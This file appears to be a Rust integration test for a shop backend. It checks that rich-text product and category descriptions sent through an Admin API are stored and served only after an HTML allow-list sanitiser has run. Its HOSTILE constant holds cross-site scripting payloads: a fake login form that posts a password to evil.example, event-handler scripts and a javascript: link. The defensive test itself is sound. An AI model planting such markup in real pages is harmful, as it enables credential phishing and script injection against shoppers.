//! #29 item 7: rich text written through the Admin API (product and category
//! descriptions) is stored as the allow-list leaves it, so that no `<style>`, `<form>` or
//! `<svg>` reaches the storefront or the cockpit, whatever the browser does.

use serde_json::json;

use crate::admin_support::{self, create};
use crate::common;

const HOSTILE: &str =
    "<style>body{display:none}</style><form action=\"https://evil.example\"><input name=\"password\"><button>Log in</button></form>\
<svg onload=\"alert(1)\"><circle r=\"9\"/></svg><p style=\"position:fixed\" onclick=\"alert(2)\">Warm <strong>wool</strong></p>\
<a href=\"javascript:alert(3)\">x</a><a href=\"https://shop.example/care\">Care</a>";

#[tokio::test]
async fn descriptions_are_stored_sanitised_by_the_allow_list() {
    let shop = common::start().await;
    let token = admin_support::admin(&shop).await;
    let product = create(
        &shop,
        "product",
        &token,
        json!({"productNumber": "RICH-1", "name": "Rich", "stock": 5, "price": [{"gross": 5}], "description": HOSTILE,
               "visibilities": [{"salesChannelId": "x", "visibility": 30}]}),
    )
    .await;
    let category = create(
        &shop,
        "category",
        &token,
        json!({"name": "Rich", "description": HOSTILE}),
    )
    .await;

    let expected = "Log in<p>Warm <strong>wool</strong></p><a rel=\"noopener noreferrer\">x</a>\
<a href=\"https://shop.example/care\" rel=\"noopener noreferrer\">Care</a>";
    let stored = |table: &str, key: &str, id: &str| -> String {
        let conn = rusqlite::Connection::open(shop.dir.path().join("shop.sqlite")).unwrap();
        conn.query_row(
            &format!("SELECT description FROM {table} WHERE {key} = ?1 LIMIT 1"),
            [id],
            |r| r.get(0),
        )
        .unwrap()
    };
    assert_eq!(
        stored(
            "product_translation",
            "product_id",
            product["id"].as_str().unwrap()
        ),
        expected
    );
    assert_eq!(
        stored(
            "category_translation",
            "category_id",
            category["id"].as_str().unwrap()
        ),
        expected
    );

    // What a shopper is answered is the stored text.
    let (status, answer) = shop
        .post(
            &format!("/product/{}", product["id"].as_str().unwrap()),
            json!({}),
        )
        .await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(
        answer["product"]["translated"]["description"], expected,
        "{answer}"
    );
}
